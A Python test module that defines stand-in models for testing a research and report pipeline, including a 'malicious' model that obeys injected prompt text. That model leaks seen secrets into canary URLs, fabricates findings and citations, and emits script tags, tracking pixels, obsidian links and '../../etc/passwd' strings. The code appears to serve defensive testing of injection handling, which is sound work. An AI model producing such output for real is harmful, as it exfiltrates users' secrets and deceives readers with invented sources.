"""The other models: one that obeys whoever speaks to it, and those whose replies are of no use."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, replace
from random import Random
from typing import Any

from tests.standin import honest
from tests.standin.charges import tokens_in
from tests.standin.poison import FALSEHOOD
from tests.standin.prompt import Prompt

MANY = 10_000
REFUSAL = "I'm sorry, but I can't help with that request."
_SECRET = re.compile(
    r"\b(?:sk|tvly|pk|ghp|xoxb|AKIA)[-_A-Za-z0-9]{8,}"
    r"|\b(?:api[_ -]?key|token|password|secret)\b\s*[:=]\s*['\"]?([^\s'\"]{6,})",
    re.I,
)
_CANARY = re.compile(r"\b[A-Za-z0-9_-]*canary[A-Za-z0-9_-]*secret[A-Za-z0-9_-]*", re.I)
_TOLD = re.compile(r"https?://[^\s\"'<>)]+/canary/[^\s\"'<>)]+")
_WORDS = ("lorem", "ipsum", "dolor", "sit", "amet", "consectetur", "elit", "tempor", "labore", "magna", "aliqua")


@dataclass(frozen=True, slots=True)
class Said:
    """What a model replies: the text, or a refusal; and how it ended."""

    content: str
    refusal: str | None = None
    finish: str = "stop"


@dataclass(frozen=True, slots=True)
class Setting:
    """What a model has besides its prompt: its chance, its server's address, the secrets it has seen, ``max_tokens``."""

    chance: Random
    base: str
    secrets: tuple[str, ...] = ()
    most: int = 1 << 30


def secrets_in(text: str) -> tuple[str, ...]:
    """Return what looks like a secret in a text."""
    planted = _CANARY.findall(text) if "canary" in text.lower() else ()
    return tuple(dict.fromkeys([*(found[1] or found[0] for found in _SECRET.finditer(text)), *planted]))


def say(kind: str, prompt: Prompt, setting: Setting) -> Said:
    """Return what the model of that kind replies."""
    return KINDS[kind](prompt, setting)


def _dumped(value: Any) -> str:
    return value if isinstance(value, str) else json.dumps(value, ensure_ascii=False)


def honest_model(prompt: Prompt, setting: Setting) -> Said:
    """Does what it is asked; without a schema or a rule it answers in a sentence."""
    if not prompt.schema and prompt.name not in honest.RULES:
        return Said("The prompt asks for nothing that this model knows how to give.")
    return Said(_dumped(honest.answer(prompt)))


# ---- malicious -------------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Evil:
    """What the malicious model works with: where it sends people, what it leaks, and how many of each thing it asks for."""

    prompt: Prompt
    url: str
    leak: str
    many: int


def malicious(prompt: Prompt, setting: Setting) -> Said:
    """Does what any text in its prompt tells it: leaks, invents quotes and keys, names addresses, asks for as much as fits."""
    leak = "&".join(setting.secrets) or "no-secret-seen"
    told = _TOLD.search(prompt.text)
    url = told[0].replace("SECRETS", leak) if told else f"{setting.base}/canary/model?leak={leak}"
    greedy = (_wished(Evil(prompt, url, leak, many)) for many in (MANY, 1_000, 100, 20, 5, 1))
    said = ""
    for said in greedy:
        if tokens_in(said) <= setting.most:
            break
    return Said(said)


def _wished(evil: Evil) -> str:
    wish = _WISHES.get(evil.prompt.name)
    if evil.prompt.name == "report":
        return _report(evil)
    return _dumped({**honest.answer(evil.prompt), **(wish(evil) if wish else {})})


def _searches(evil: Evil) -> list[str]:
    return [f"{evil.url}&n={at}" if at % 2 else f"{evil.leak} {at}" for at in range(evil.many)]


def _plan(evil: Evil) -> dict[str, Any]:
    questions = [f"What is at {evil.url}?"] * min(evil.many, 100)
    bad = {"name": f"../{evil.leak}", "focus": evil.url, "questions": questions, "queries": _searches(evil)[:100]}
    return {"kind": "overview", "perspectives": [bad] * min(evil.many, 200)}


def _reading(evil: Evil) -> dict[str, Any]:
    true = honest.reading(evil.prompt)["findings"]
    bent = [{**finding, "quote": re.sub(r"\d", "9", finding["quote"]) + " indeed"} for finding in true]
    false = {"source": "S1", "claim": FALSEHOOD, "quote": FALSEHOOD, "question": evil.url}
    found = [false, {**false, "claim": evil.leak, "quote": f"The key is {evil.leak}."}, *bent]
    return {"findings": found, "open_questions": [f"What is at {evil.url}?"] * evil.many, "queries": _searches(evil)}


def _false_sentences(evil: Evil) -> list[str]:
    link = f"See [[obsidian://open?x={evil.leak}]] and {evil.url}"
    return [FALSEHOOD, f"![pixel]({evil.url})", f"<script src='{evil.url}'></script>", link, f"<% {evil.leak} %>"]


def _report(evil: Evil) -> str:
    """The honest text between falsehoods that cite what was not given out, and nothing."""
    key = evil.prompt.keys[0] if evil.prompt.keys else "E1"
    false = " ".join(f"{one.rstrip('.')} [{key}, E999]." for one in _false_sentences(evil))
    title = f"# [[{evil.url}]] <script>{evil.leak}</script> ../../etc/passwd"
    honest_lines = [line for line in honest.report(evil.prompt).split("\n") if not line.startswith(("# ", "answered"))]
    body = "\n".join([line if line.startswith(("#", "-")) or not line else f"{FALSEHOOD} {line}" for line in honest_lines])
    return f"{title}\n\n{false} {FALSEHOOD}\n\n{body}\n\n{false}\n\nanswered"


def _check(evil: Evil) -> dict[str, Any]:
    keys = [key for key, _ in evil.prompt.checked]
    pairs = [{"first": key, "second": "E999", "subject": evil.leak, "kind": "claim", "explanation": evil.url} for key in keys]
    bad = f"{FALSEHOOD} See [[obsidian://open?x={evil.leak}]] and {evil.url} [E999]"
    faults = [{"sentence": key, "reason": evil.leak, "text": bad} for key in [*keys[::9], f"T{MANY}"]]
    lacks = [{"evidence": key, "reason": evil.url, "after": "T1", "text": bad} for key in evil.prompt.keys]
    agreed = {"claimless": [*keys, f"T{MANY}"], "unfound": [{"sentence": f"T{MANY}", "question": "U9"}], "outcome": "answered"}
    return {"faults": faults, "contradictions": pairs, "missing": lacks, **agreed}


def _renamed(evil: Evil) -> dict[str, Any]:
    return {"question": f"{evil.prompt.query} {FALSEHOOD} {evil.url} {evil.leak}"}


def _talked(evil: Evil) -> dict[str, Any]:
    key = evil.prompt.keys[0] if evil.prompt.keys else "E1"
    false = f"{FALSEHOOD.rstrip('.')} {evil.url} [{key}, E999]. {FALSEHOOD}"
    return {"answer": false, "follow_ups": [f"What is at {evil.url}?"] * min(evil.many, 50)}


def _remembered(evil: Evil) -> dict[str, Any]:
    return {"episode": _talked(evil)["answer"]}


_WISHES: dict[str, Callable[[Evil], Any]] = {
    "plan": _plan,
    "reading": _reading,
    "report": _report,
    "check": _check,
    "stand_alone": _renamed,
    "talk": _talked,
    "episode": _remembered,
}


# ---- useless ---------------------------------------------------------------------------------------------------


def garbage(prompt: Prompt, setting: Setting) -> Said:
    """Fits the schema and means nothing; lists inside of others are empty."""

    def noise(part: Any, depth: int = 0) -> Any:
        part = prompt.schema["$defs"][part["$ref"].rpartition("/")[2]] if "$ref" in part else part
        if "enum" in part:
            return part["enum"][0]
        if part.get("type") == "object":
            return {name: noise(inner, depth + 1) for name, inner in part["properties"].items()}
        if part.get("type") == "array":
            return [noise(part["items"], depth) for _ in range(setting.chance.randint(1, 3))] if depth == 1 else []
        return " ".join(setting.chance.choices(_WORDS, k=6)) if part.get("type") == "string" else True

    return Said(_dumped(noise(prompt.schema) if prompt.schema else " ".join(_WORDS)))


def refusing(prompt: Prompt, setting: Setting) -> Said:
    """Will not: half of the time in the ``refusal`` field, half of the time in plain words."""
    if setting.chance.random() < 0.5:
        return Said("", refusal=REFUSAL)
    return Said(REFUSAL)


def truncating(prompt: Prompt, setting: Setting) -> Said:
    """Stops for length in the middle of the answer."""
    whole = honest_model(prompt, setting)
    return replace(whole, content=whole.content[: len(whole.content) // 2], finish="length")


KINDS: dict[str, Callable[[Prompt, Setting], Said]] = {
    "honest": honest_model,
    "malicious": malicious,
    "garbage": garbage,
    "refusing": refusing,
    "truncating": truncating,
}
